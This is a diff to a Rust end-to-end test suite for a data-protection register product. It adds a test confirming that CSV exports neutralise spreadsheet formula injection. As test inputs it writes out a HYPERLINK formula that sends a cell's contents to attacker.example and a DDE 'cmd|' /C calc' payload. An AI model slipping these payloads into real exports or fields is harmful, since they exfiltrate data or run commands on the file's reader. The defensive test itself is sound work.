@@ -14,7 +14,9 @@ async fn demo_register(app: &TestApp) -> std::path::PathBuf {
         org_id: app.org_id,
         key_name: "admin".into(),
     };
-    let shop = std::env::temp_dir().join(format!("auskunft-shop-{}.db", uuid::Uuid::new_v4()));
+    let shop = app
+        .sources_dir
+        .join(format!("auskunft-shop-{}.db", uuid::Uuid::new_v4()));
     workflow::demo_register::create_shop_database(&shop)
         .await
         .unwrap();
@@ -323,3 +325,83 @@ async fn the_cli_exports_the_register(app: TestApp) {
     let _ = std::fs::remove_file(shop);
 }
 e2e!(cli_export, the_cli_exports_the_register);
+
+/// Every cell of a CSV export (BOM stripped).
+fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let bytes = bytes
+        .strip_prefix(b"\xEF\xBB\xBF")
+        .expect("a byte order mark");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(bytes)
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// CSV injection (issue 10, section 4): names a steward or the DPO typed are written
+/// so that no spreadsheet runs them as formulas, in every CSV the product writes.
+async fn csv_exports_cannot_attack_their_reader(app: TestApp) {
+    let shop = demo_register(&app).await;
+    let (dpo, steward) = (app.key(Role::Dpo), app.key(Role::Steward));
+    let formula = "=HYPERLINK(\"https://attacker.example/?d=\"&D2;\"x\")";
+    let command = "-2+3+cmd|' /C calc'!A0";
+    let source = app
+        .gql_ok(
+            steward,
+            "mutation { createDataSource(input: {name: \"Paper files\", connectorKind: MANUAL, connectorConfig: {contact: \"office@example.com\"}}) { dataSource { id } } }",
+            json!({}),
+        )
+        .await["createDataSource"]["dataSource"]["id"]
+        .clone();
+    // The steward renames the source.
+    app.gql_ok(
+        steward,
+        "mutation($i: UpdateDataSourceInput!) { updateDataSource(input: $i) { dataSource { name } } }",
+        json!({"i": {"id": source, "name": command}}),
+    )
+    .await;
+    let purpose = app
+        .gql_ok(dpo, "{ purposes(first: 1) { nodes { id } } }", json!({}))
+        .await["purposes"]["nodes"][0]["id"]
+        .clone();
+    app.gql_ok(
+        dpo,
+        "mutation($i: CreateProcessingActivityInput!) { createProcessingActivity(input: $i) { processingActivity { id } } }",
+        json!({"i": {"name": formula, "owner": "@admin", "purposeIds": [purpose], "sourceIds": [source]}}),
+    )
+    .await;
+
+    let (status, _, downloaded) = download(&app, app.key(Role::Auditor), "CSV").await;
+    assert_eq!(status, 200);
+    let cli = app
+        .workflow
+        .export_register_of(None, workflow::register::export::ExportFormat::Csv)
+        .await
+        .unwrap();
+    for (what, bytes) in [("download", downloaded), ("export-register", cli.bytes)] {
+        let rows = csv_cells(&bytes);
+        let row = rows
+            .iter()
+            .find(|r| r[0].contains("HYPERLINK"))
+            .unwrap_or_else(|| panic!("{what}: the activity is exported"));
+        assert_eq!(row[0], format!("'{formula}"), "{what}");
+        assert!(row.contains(&format!("'{command}")), "{what}: {row:?}");
+        assert!(row.contains(&"'@admin".to_owned()), "{what}: {row:?}");
+        for cell in rows.iter().flatten() {
+            let first = cell.trim_start().chars().next();
+            assert!(
+                !cell.starts_with(['\t', '\r'])
+                    && !first.is_some_and(|c| "=+-@＝＋－＠".contains(c)),
+                "{what}: a spreadsheet would run {cell:?}"
+            );
+        }
+        let text = String::from_utf8(bytes).unwrap();
+        assert!(
+            !text.contains(&format!("\"{formula}")) && !text.contains(&format!(",{formula}")),
+            "{what}: the formula is never the start of a cell"
+        );
+    }
+    let _ = std::fs::remove_file(shop);
+}
+e2e!(csv_injection, csv_exports_cannot_attack_their_reader);
